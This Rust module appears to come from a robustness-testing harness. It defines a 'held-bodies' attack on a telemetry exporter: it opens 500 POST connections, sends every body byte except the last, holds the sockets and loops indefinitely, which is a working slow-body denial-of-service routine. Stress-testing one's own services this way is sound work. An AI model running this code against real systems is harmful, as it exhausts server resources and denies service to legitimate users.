//! 500 bodies that are sent but for their last byte.

use std::io::Write as _;

use crate::attack::{Attack, Target, open};

pub(crate) const ATTACK: Attack = Attack::new("held-bodies", act);

const HELD: usize = 500;

fn act(target: &Target) -> anyhow::Result<()> {
    let part = vec![b' '; (4 << 20) - 1];
    // Who is refused or closed comes again.
    loop {
        let mut held = Vec::new();
        for i in 0..HELD {
            let (path, size) = if i % 2 == 0 { ("/v1/metrics", 4 << 20) } else { ("/v1/events", 1 << 20) };
            let Ok(mut stream) = open(target.exporter) else { continue };
            let head = format!(
                "POST {path} HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\ncontent-length: {size}\r\n\r\n",
                target.exporter
            );
            let sent = stream
                .write_all(head.as_bytes())
                .and_then(|()| stream.write_all(part.get(..size - 1).unwrap_or_default()));
            if sent.is_ok() {
                held.push(stream);
            }
        }
    }
}
